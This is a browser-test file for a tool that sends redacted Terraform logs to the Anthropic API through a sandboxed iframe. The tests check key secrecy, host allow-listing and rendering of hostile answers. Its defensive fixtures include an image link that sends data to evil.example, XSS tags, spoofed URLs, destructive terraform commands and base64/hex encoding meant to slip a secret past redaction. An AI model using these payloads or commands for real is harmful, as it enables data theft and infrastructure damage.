// Asking Anthropic through the valve of the built page: what leaves, what comes back, and what can go wrong.
import { assert, axe, free, pause, test, until, world } from "./lib.mjs";
import { LOCK_ID, NAMES, PASTE, SECRETS } from "./samples.mjs";
import { pieces, refusal, whole } from "./wire.mjs";

const KEY = ["sk", "ant", "api03", "qWeRtYuIoP0192837465ZxCvBn"].join("-");

const ANSWER = [
  "## Explanation\nThe lock `",
  `${LOCK_ID}\` of the bucket BUCK`,
  "ET_1 is héld by a runner. Wörter: 锁 🔒.\n\n",
  "## Commands\nRelease it\n```sh\n",
  `terraform force-unlock ${LOCK_ID}\n`,
  "```\n",
];

/** Opens, pastes, types the key, prepares a question. */
const ready = async (bench, question = "What happened?") => {
  await bench.open();
  await bench.paste(PASTE);
  await bench.valve().locator("#key").fill(KEY);
  await prepare(bench, question);
};

const prepare = async (bench, question) => {
  await bench.work.locator("#question").fill(question);
  await bench.work.locator("[data-do=ask-prepare]").click();
  await bench.valveReady();
};

const send = (bench) => bench.valve().locator("#send").click();
const status = (bench) => bench.work.locator("#answers .answer-status").first().textContent();
const settled = (bench, pattern, limit) =>
  until(async () => pattern.test(await status(bench)), `status ${pattern}`, limit);
const answer = (bench) => bench.work.locator("#answers .answer").first();

test("the exact request is shown, then sent, byte for byte; the answer is streamed and restored", async (bench) => {
  world.answer = pieces("anthropic", ANSWER, { size: 7 });
  await ready(bench);
  const valve = bench.valve();
  const shown = await valve.locator("#body").textContent();
  assert.equal(await valve.locator("#url").textContent(), "https://api.anthropic.com/v1/messages");
  assert.ok((await valve.locator("#body mark").count()) > 3, "placeholders are marked");
  assert.match(await valve.locator("#hidden-list").textContent(), /\d+ secrets?, \d+ identifiers?/);
  assert.match(await valve.locator("#size").textContent(), /[\d,]+ bytes, about [\d,]+ tokens/);
  assert.ok(!(await valve.locator("#request").textContent()).includes(KEY), "the key is masked");
  assert.deepEqual(world.seen, [], "nothing left before Send");
  await bench.part("ask-preview");
  await send(bench);
  await settled(bench, /Complete/);
  const [call] = world.calls();
  assert.equal(world.calls().length, 1);
  assert.equal(call.host, "api.anthropic.com");
  assert.equal(call.body, shown, "what was shown is what left");
  assert.equal(call.headers["x-api-key"], KEY);
  assert.equal(call.headers.referer, undefined);
  assert.equal(call.headers.cookie, undefined);
  free(call.body, SECRETS, "the request");
  for (const name of NAMES) assert.ok(!call.body.includes(name), `the request holds ${name}`);
  assert.ok(call.body.includes(LOCK_ID), "the lock id is no secret");
  const text = await answer(bench).innerText();
  assert.ok(text.includes("my-tf-state-bucket"), "the name is put back");
  assert.ok(text.includes("Wörter: 锁 🔒."), "split characters are whole");
  assert.ok((await answer(bench).locator(".verified").count()) === 1, "our own release command is marked as ours");
  assert.match(await status(bench), /812 tokens read, 97 written/);
  assert.equal(await bench.text("#strip-sent"), "1 request");
  assert.match(
    await valve.locator("#ledger-rows").textContent(),
    /POST api\.anthropic\.com\/v1\/messages.*answered 200/,
  );
  assert.deepEqual(bench.problems, []);
  await bench.part("ask-answer");
});

test("the key is nowhere but in the valve and in its header", async (bench) => {
  // A provider that quotes the key, whole and in part, cut in two.
  world.answer = async (one, response, headers) => {
    response.writeHead(401, { ...headers, "Content-Type": "application/json" });
    response.write(
      `{"type":"error","error":{"type":"authentication_error","message":"invalid x-api-key: ${KEY.slice(0, 15)}`,
    );
    await pause(150);
    response.end(`${KEY.slice(15)} or ${KEY.slice(4, 20)}"}}`);
  };
  await ready(bench);
  await send(bench);
  await until(() => answer(bench).locator(".answer-error").isVisible(), "an error");
  const error = await answer(bench).locator(".answer-error").textContent();
  assert.match(error, /key/i);
  for (let at = 0; at + 8 <= KEY.length; at += 1) {
    assert.ok(!error.includes(KEY.slice(at, at + 8)), "the error quotes the key");
  }
  const found = await bench.work.evaluate((key) => {
    const places = [];
    if (document.documentElement.outerHTML.includes(key)) places.push("document");
    for (const input of document.querySelectorAll("input, textarea"))
      if (input.value.includes(key)) places.push(input.id);
    if (JSON.stringify({ ...localStorage, ...sessionStorage }).includes(key)) places.push("storage");
    if (location.href.includes(key) || document.cookie.includes(key)) places.push("address");
    if (JSON.stringify(performance.getEntries().map((one) => one.name)).includes(key)) places.push("timing");
    try {
      document.getElementById("valve").contentDocument.getElementById("key");
      places.push("the frame can be looked into");
    } catch {
      // Another origin.
    }
    return places;
  }, KEY);
  assert.deepEqual(found, []);
  const [download] = await Promise.all([
    bench.page.waitForEvent("download"),
    bench.work.locator("#ask-ledger").click(),
  ]);
  const { readFileSync } = await import("node:fs");
  const ledger = readFileSync(await download.path(), "utf8");
  assert.equal(JSON.parse(ledger)[0].outcome, "answered 401");
  assert.ok(!ledger.includes(KEY) && !ledger.includes("BUCKET_1"), "the ledger holds neither key nor body");
  assert.ok(!(await bench.valve().evaluate(() => document.documentElement.outerHTML)).includes(KEY));
  await bench.valve().locator("#forget").click();
  await prepare(bench, "Again?");
  const before = world.calls().length;
  await send(bench);
  assert.match(await bench.valve().locator("#why").textContent(), /key/i);
  assert.equal(world.calls().length, before, "a forgotten key sends nothing");
  const storage = await bench.context.storageState();
  assert.ok(!JSON.stringify(storage).includes(KEY));
});

test("the valve takes only what fits: other hosts, headers, methods, and senders are refused", async (bench) => {
  await bench.open();
  const said = await bench.work.evaluate(async () => {
    const valve = document.getElementById("valve").contentWindow;
    const heard = [];
    addEventListener("message", (event) => event.source === valve && heard.push(event.data));
    const good = { v: 1, type: "request", provider: "x", method: "POST", url: "https://api.anthropic.com/v1/messages" };
    const rest = { headers: [["content-type", "application/json"]], body: "{}", summary: [], placeholders: [] };
    const bad = {
      host: { url: "https://evil.example/" },
      "look-alike": { url: "https://api.anthropic.com.evil.example/" },
      user: { url: "https://api.anthropic.com@evil.example/" },
      port: { url: "https://api.anthropic.com:8443/v1" },
      http: { url: "http://api.anthropic.com/v1" },
      own: { url: location.href },
      loopback: { url: "http://localhost:11434/api/chat" },
      method: { method: "PUT" },
      header: { headers: [["x-leak", "secret"]] },
      value: { headers: [["authorization", "Bearer my-paste"]] },
      body: { body: { toString: "no" } },
      get: { method: "GET" },
    };
    for (const [name, change] of Object.entries(bad)) valve.postMessage({ ...good, ...rest, ...change, id: name }, "*");
    valve.postMessage({ ...good, ...rest, id: "old", v: 0 }, "*");
    valve.postMessage({ v: 1, type: "again", id: "never" }, "*");
    valve.postMessage("text", "*");
    valve.postMessage(null, "*");
    valve.postMessage({ v: 1, type: "constructor" }, "*");
    // Another window than its parent: a frame that the page had before.
    document.getElementById("valve-local").contentWindow.eval;
    await new Promise((done) => setTimeout(done, 300));
    return { bad: Object.keys(bad), heard };
  });
  const failed = said.heard.filter((one) => one.type === "failed").map((one) => `${one.id}: ${one.why}`);
  assert.deepEqual(
    failed,
    [...said.bad, "never"].map((name) => `${name}: refused`),
  );
  assert.equal(await bench.valve().locator("#request").isVisible(), false);
  assert.deepEqual(world.seen, []);
});

test("a hostile answer is inert", async (bench) => {
  const hostile = [
    "# Look\n![x](https://evil.example/?q=BUCKET_1) and [click](javascript:alert(1)) and ",
    '<img src="https://evil.example/i.png" onerror="alert(1)"><script>alert(2)</script> BUCKET_1 BUCKET_77 ',
    "and <iframe srcdoc='x'></iframe> http://evil.example/BUCKET_1/x\n\n",
    "```sh\nterraform force-unlock -force 00000000-1111-2222-3333-444444444444\n```\n",
    "```sh\nterraform state rm aws_instance.web\n```\n",
    '```hcl\nterraform {\n  backend "s3" {\n    bucket = "someone-elses-bucket"\n    key = "prod/terraform.tfstate"\n    region = "us-east-1"\n  }\n}\n```\n',
  ];
  world.answer = whole("anthropic", hostile);
  await ready(bench);
  let dialogs = 0;
  bench.page.on("dialog", (dialog) => ((dialogs += 1), dialog.dismiss()));
  await send(bench);
  await settled(bench, /Complete/);
  const body = answer(bench).locator(".answer-body");
  assert.equal(
    await body.locator("a, img, script, iframe, object, svg:not(button svg), [src], [href]:not(use)").count(),
    0,
  );
  const html = await body.innerHTML();
  assert.ok(!/evil\.example[^<]*my-tf-state-bucket/.test(html), "nothing is put back inside an address");
  assert.ok((await body.innerText()).includes("https://evil.example/?q=BUCKET_1"), "it is shown as it stands");
  assert.ok((await body.locator(".restored").count()) >= 1, "in the text the name is put back");
  assert.ok(
    (await body.locator(".no-placeholder", { hasText: "BUCKET_77" }).count()) === 1,
    "an unknown one is marked",
  );
  const wrong = body.locator(".answer-command", { hasText: "00000000-1111" });
  assert.match(await wrong.locator(".answer-verdict").textContent(), /not verified/);
  assert.equal(await wrong.locator(".copy").isVisible(), false, "no copy button");
  const rm = body.locator(".answer-command", { hasText: "state rm" });
  assert.equal(await rm.locator(".copy").isVisible(), false);
  assert.match(
    await body
      .locator(".code .warn", { hasText: /bucket/i })
      .first()
      .textContent(),
    /bucket/i,
    "another bucket",
  );
  assert.match(await answer(bench).locator("[data-part=whole] .warn").first().textContent(), /BUCKET_77/);
  assert.equal(dialogs, 0);
  assert.ok((await bench.text("#steps")).includes(`terraform force-unlock ${LOCK_ID}`), "our own result is as it was");
  assert.deepEqual(
    world.calls().map((one) => one.host),
    ["api.anthropic.com"],
  );
  assert.deepEqual(bench.problems, []);
  await bench.part("ask-hostile");
});

test("a secret's placeholder stays until it is clicked", async (bench) => {
  await ready(bench);
  const name = await bench.valve().locator("#body mark.secret").first().textContent();
  world.answer = whole("anthropic", [`Rotate ${name} now.`]);
  await send(bench);
  await settled(bench, /Complete/);
  const html = () => bench.work.evaluate(() => document.getElementById("answers").outerHTML);
  free(await html(), SECRETS, "the answer");
  await answer(bench).locator("button.mark").first().click();
  await until(() => answer(bench).locator(".revealed").isVisible(), "the value");
  const value = await answer(bench).locator(".revealed").textContent();
  assert.ok(value.length >= 4 && PASTE.includes(value), "it is the value from the paste");
});

test("a slow stream shows as it comes, Stop keeps what came", async (bench) => {
  let closed = false;
  world.answer = async (one, response, headers) => {
    response.on("close", () => (closed = true));
    response.writeHead(200, { ...headers, "Content-Type": "text/event-stream" });
    for (let at = 0; !response.destroyed; at += 1) {
      const text = `Sentence ${at} of an endless answer. `;
      response.write(
        `event: content_block_delta\ndata: ${JSON.stringify({ type: "content_block_delta", delta: { type: "text_delta", text } })}\n\n: keep\n\n`,
      );
      await pause(40);
    }
  };
  await ready(bench);
  await send(bench);
  await until(async () => /Sentence 12/.test(await answer(bench).innerText()), "it shows as it comes");
  assert.equal(await answer(bench).getAttribute("aria-busy"), "true");
  await bench.part("ask-streaming");
  await answer(bench).getByRole("button", { name: "Stop" }).click();
  await settled(bench, /Incomplete: you stopped it/);
  assert.match(await answer(bench).innerText(), /Sentence 12/);
  assert.equal(await answer(bench).getAttribute("aria-busy"), "false");
  await until(() => closed, "the connection is closed");
  assert.deepEqual(bench.problems, []);
});

test("a cut connection keeps the text and says so; the earlier answer stays", async (bench) => {
  world.answer = whole("anthropic", ["The first answer."]);
  await ready(bench);
  await send(bench);
  await settled(bench, /Complete/);
  world.answer = async (one, response, headers) => {
    response.writeHead(200, { ...headers, "Content-Type": "text/event-stream" });
    response.write(
      `data: ${JSON.stringify({ type: "content_block_delta", delta: { type: "text_delta", text: "Half an answer" } })}\n\n`,
    );
    await pause(150);
    response.destroy();
  };
  await prepare(bench, "And now?");
  await send(bench);
  await settled(bench, /Incomplete/);
  const all = await bench.text("#answers");
  assert.ok(all.includes("Half an answer") && all.includes("The first answer."));
});

test("an endless answer is stopped at 20 MB; the paste and what came stay", async (bench) => {
  let closed = false;
  world.answer = async (one, response, headers) => {
    response.on("close", () => (closed = true));
    response.setMaxListeners(0);
    response.writeHead(200, { ...headers, "Content-Type": "text/event-stream" });
    const text = `${"All work and no play. ".repeat(20)}\n`.repeat(150);
    const event = `data: ${JSON.stringify({ type: "content_block_delta", delta: { type: "text_delta", text } })}\n\n`;
    while (!closed) {
      if (response.write(event)) await new Promise(setImmediate);
      else await Promise.race([new Promise((done) => response.once("drain", done)), pause(50)]);
    }
  };
  await ready(bench);
  await send(bench);
  await until(async () => /larger than 20 MB/.test(await answer(bench).innerText()), "reading stops", 45_000);
  assert.ok(closed, "the connection is closed");
  assert.match(await status(bench), /only its beginning is shown/);
  assert.ok((await answer(bench).innerText()).length < 1_000_000);
  assert.equal(await bench.work.locator("#text").inputValue(), PASTE);
});

test("Continue where the limit cut it; a follow-up keeps the thread", async (bench) => {
  world.answer = whole("anthropic", ["First half, "], { stop: "max_tokens" });
  await ready(bench);
  await send(bench);
  await settled(bench, /token limit/);
  world.answer = whole("anthropic", ["second half."]);
  await answer(bench).getByRole("button", { name: "Continue" }).click();
  await bench.valveReady();
  await send(bench);
  await settled(bench, /Complete/);
  assert.match(await answer(bench).innerText(), /First half, second half\./);
  assert.match(world.calls()[1].body, /First half/);
  world.answer = whole("anthropic", ["To the follow-up."]);
  await bench.work.locator("#question").fill("Why so?");
  await bench.work.locator("#follow").click();
  await bench.valveReady();
  await send(bench);
  await until(async () => (await answer(bench).innerText()).includes("To the follow-up."), "its answer");
  const body = world.calls()[2].body;
  assert.ok(body.includes("What happened?") && body.includes("second half.") && body.includes("Why so?"));
  free(body, SECRETS, "the follow-up");
});

test("429: a visible countdown, two tries by itself and no more", async (bench) => {
  world.answer = refusal(
    429,
    { type: "error", error: { type: "rate_limit_error", message: "Too many requests" } },
    { "retry-after": "2", "Access-Control-Expose-Headers": "retry-after" },
  );
  await ready(bench);
  await send(bench);
  await settled(bench, /Trying again in \d+ s, for the first/);
  await settled(bench, /Trying again in \d+ s, for the second/, 15_000);
  await until(() => answer(bench).getByRole("button", { name: "Prepare it again" }).isVisible(), "it gives up", 15_000);
  await pause(1500);
  assert.equal(world.calls().length, 3);
  assert.equal(new Set(world.calls().map((one) => one.body)).size, 1, "the very same request");
  await bench.part("ask-error");
});

test("overloaded, a web page, an unreadable refusal: words that say what to do", async (bench) => {
  const says = async (handler, pattern) => {
    world.answer = handler;
    await prepare(bench, "What happened?");
    await send(bench);
    await until(async () => pattern.test(await answer(bench).innerText()), `words like ${pattern}`);
    const wait = answer(bench).getByRole("button", { name: "Do not try again" });
    if (await wait.isVisible()) await wait.click();
  };
  world.answer = refusal(529, { type: "error", error: { type: "overloaded_error", message: "Overloaded" } });
  await ready(bench);
  await says(
    refusal(529, { type: "error", error: { type: "overloaded_error", message: "Overloaded" } }),
    /overloaded|busy|Trying again/i,
  );
  await says((one, response, headers) => {
    response.writeHead(200, { ...headers, "Content-Type": "text/html" }).end("<!doctype html><title>Login</title>");
  }, /web page/);
  await says((one, response) => response.writeHead(401).end("no cors"), /does not say why/);
  await says(refusal(404, { type: "error", error: { type: "not_found_error", message: "model: nope" } }), /model/i);
  await says(
    refusal(400, {
      type: "error",
      error: { type: "invalid_request_error", message: "prompt is too long: 300000 tokens > 200000 maximum" },
    }),
    /too long|less/i,
  );
  assert.equal(await bench.work.locator("#text").inputValue(), PASTE, "the paste stays");
});

test("the list of models goes through the same door", async (bench) => {
  world.answer = refusal(200, {
    data: [{ id: "claude-one", display_name: "One" }, { id: "claude-two" }],
    has_more: false,
  });
  await bench.open();
  await bench.paste(PASTE);
  await bench.valve().locator("#key").fill(KEY);
  await bench.work.locator("#ask-models").click();
  await bench.valveReady();
  assert.match(await bench.valve().locator("#url").textContent(), /\/v1\/models/);
  assert.deepEqual(world.seen, []);
  await send(bench);
  await until(() => bench.work.locator("#model-list").isVisible(), "the list");
  await bench.work.locator("#model-list").selectOption("claude-two");
  assert.equal(await bench.work.locator("#model").inputValue(), "claude-two");
  assert.equal(world.calls()[0].method, "GET");
});

test("a secret in another spelling in the question blocks the request", async (bench) => {
  await bench.open();
  await bench.paste(PASTE);
  const secret = SECRETS["database password"];
  await bench.work
    .locator("#question")
    .fill(`Is ${Buffer.from(secret).toString("base64")} or ${Buffer.from(secret).toString("hex")} in it?`);
  await bench.work.locator("[data-do=ask-prepare]").click();
  await until(
    async () => (await bench.text("#ask-said")) !== "" || (await bench.valve().locator("#request").isVisible()),
    "an outcome",
  );
  if (await bench.valve().locator("#request").isVisible()) {
    free(await bench.valve().locator("#body").textContent(), { password: secret }, "the request");
  } else {
    const said = await bench.text("#ask-said");
    assert.match(said, /Blocked/);
    free(said, SECRETS, "the refusal");
  }
});

test("who refuses browsers is named before a key can be typed", async (bench) => {
  await bench.open();
  await bench.paste(PASTE);
  for (const id of ["bedrock", "azure-openai", "another-host"]) {
    await bench.work.locator("#provider").selectOption(id);
    assert.match(await bench.text("#refusing"), /proxy/i);
    assert.equal(await bench.work.locator("#valve").isVisible(), false, "no key field");
    assert.equal(await bench.work.locator("[data-do=ask-prepare]").isVisible(), false);
  }
});

for (const theme of ["light", "dark"]) {
  test(`axe finds nothing, ${theme}`, async (bench) => {
    world.answer = whole("anthropic", [
      ...ANSWER,
      "\n## Warnings\n- Look first\n",
      '```hcl\nterraform {\n  backend "s3" {\n    bucket = "BUCKET_1"\n  }\n}\n```\n',
    ]);
    await bench.open();
    await bench.work.locator("#theme").selectOption(theme);
    assert.deepEqual(await axe(bench.work), [], "empty");
    await bench.paste(PASTE);
    await bench.valve().locator("#key").fill(KEY);
    await prepare(bench, "What happened?");
    assert.deepEqual(await axe(bench.valve()), [], "the valve with a request");
    await send(bench);
    await settled(bench, /Complete/);
    assert.deepEqual(await axe(bench.work), [], "with an answer");
    await bench.valve().locator("#ledger > summary").click();
    assert.deepEqual(await axe(bench.valve()), [], "the valve with its ledger");
    await bench.part(`ask-whole-${theme}`);
  });
}

for (const [name, width] of [
  ["desktop", 1440],
  ["phone", 390],
]) {
  test(`no sideways scrolling, ${name}`, async (bench) => {
    world.answer = whole("anthropic", ANSWER);
    await ready(bench);
    await bench.page.setViewportSize({ width, height: 844 });
    // The frame tells its new height, and what lies below moves.
    await pause(600);
    await bench.work.locator("#valve").scrollIntoViewIfNeeded();
    await bench.picture(`ask-preview-${name}`);
    await send(bench);
    await settled(bench, /Complete/);
    for (const frame of [bench.work, bench.valve()]) {
      const over = await frame.evaluate(
        () => document.documentElement.scrollWidth - document.documentElement.clientWidth,
      );
      assert.ok(over <= 0, `${over} px too wide`);
    }
    await bench.part(`ask-answer-${name}`);
  });
}
